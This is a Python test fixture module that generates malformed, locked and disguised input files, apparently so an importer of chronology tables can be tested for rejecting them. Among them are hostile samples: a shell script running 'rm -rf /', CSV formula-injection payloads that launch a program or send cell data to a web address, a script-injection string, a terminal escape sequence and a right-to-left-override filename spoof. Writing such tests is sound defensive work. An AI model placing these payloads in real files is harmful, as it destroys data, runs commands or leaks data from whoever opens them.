"""Files that are no chronology at all, or locked, under the name of one or their own."""

from __future__ import annotations

from collections.abc import Iterator

from tests.trust.hostile.compound import compound
from tests.trust.hostile.documents import odf, pack, word
from tests.trust.hostile.old_files import old_excel, old_word, record
from tests.trust.hostile.zips import Entry, build
from tests.trust.spoilt.file import SpoiltFile, good

LOCKED = compound({"EncryptedPackage": b"x" * 9_000, "EncryptionInfo": b"\x04\x00\x04\x00"})
LOCK_OF_XLS = 0x002F
STRANGERS = {
    "minutes.pdf": b"%PDF-1.7\n%%EOF\n",
    "photo.jpg": b"\xff\xd8\xff\xe0" + bytes(64),
    "photo.png": b"\x89PNG\r\n\x1a\n" + bytes(64),
    "photo.gif": b"GIF89a" + bytes(64),
    "note.rtf": b"{\\rtf1 Chronology}",
    "mail.eml": b"From: a\r\nTo: b\r\nMIME-Version: 1.0\r\n\r\nChronology",
    "mail.msg": compound({"__properties_version1.0": b"x" * 4_096}),
    "slides.pptx": pack(word()),
    "macros.docm": pack(word()),
    "macros.xlsm": pack(word()),
    "template.dotx": pack(word()),
    "all.zip": pack({"a.txt": b"x"}),
    "all.7z": b"7z\xbc\xaf\x27\x1c" + bytes(64),
    "all.rar": b"Rar!\x1a\x07" + bytes(64),
    "data.json": b'{"rows": []}',
    "page.html": b"<html><table><tr><td>1 May</td></tr></table></html>",
    "data.xml": b"<rows/>",
    "program.exe": b"MZ" + bytes(64),
    "script.sh": b"#!/bin/sh\nrm -rf /\n",
    "chronology": b"Date,Event\n",
    ".docx": pack(word()),
    "a/b.docx": pack(word()),
    "a\u202excod.docx": pack(word()),
    "chronology.exe.docx": pack(word()),
}
NOT_TEXT = {
    "NUL bytes": b"Date,Event\n1 May\x00,Seen\n",
    "commands of a terminal": b"Date,Event\n1 May,\x1b]0;x\x07\n",
    "half of UTF-16": "Date,Event\n".encode("utf-16")[:-1],
    "a web page": b"<html><table><tr><td>1 May</td></tr></table></html>",
    "a script": b"Date,Event\n1 May,<script>alert(1)</script>\n",
    "a call of a program": b"Date,Event\n1 May,=cmd|' /C calc'!A0\n",
    "a call of a page": b'Date,Event\n1 May,"=WEBSERVICE(""http://x/""&A1)"\n',
    "another table format": b"ID;PWXL;N;E\nC;X1;Y1;K1\nE\n",
    "a file written as letters": b"begin 644 a.exe\nM35J0\n",
    "more than any text": b"1 May,Seen at home\n" * 600_000,
}


def files() -> Iterator[SpoiltFile]:
    """Yield them."""
    for name, content in STRANGERS.items():
        yield SpoiltFile("stranger", name, name, content)
    for what, content in NOT_TEXT.items():
        yield SpoiltFile("no table", what, "a.csv", content)
    for ending in ("docx", "xlsx", "xls", "odt", "ods"):
        yield SpoiltFile("locked", f"a password on .{ending}", f"a.{ending}", LOCKED)
        yield SpoiltFile("empty", f".{ending}", f"a.{ending}", b"")
    locked = build(
        [Entry(name=name, content=b"x", flags=1) for name in ("mimetype", "content.xml")]
    )
    yield SpoiltFile("locked", "a password on the archive", "a.odt", locked)
    yield SpoiltFile("locked", "a password of Writer", "a.odt", pack(odf(entries=_encrypted())))
    old = compound(old_excel(record(LOCK_OF_XLS, bytes(54))))
    yield SpoiltFile("locked", "a password of old Excel", "a.xls", old)
    for name in ("a.doc", "a.docx", "-"):
        yield SpoiltFile("old Word", f"as {name}", name, compound(old_word()))
    yield SpoiltFile("old Word", "in the workbook", "a.xls", compound(old_word() | old_excel()))
    yield SpoiltFile("empty", "a sheet of nothing but its name", "a.ods", good("ods")[:30])


def _encrypted() -> str:
    inner = '<manifest:encryption-data manifest:checksum="x"/>'
    return f'<manifest:file-entry manifest:full-path="content.xml">{inner}</manifest:file-entry>'
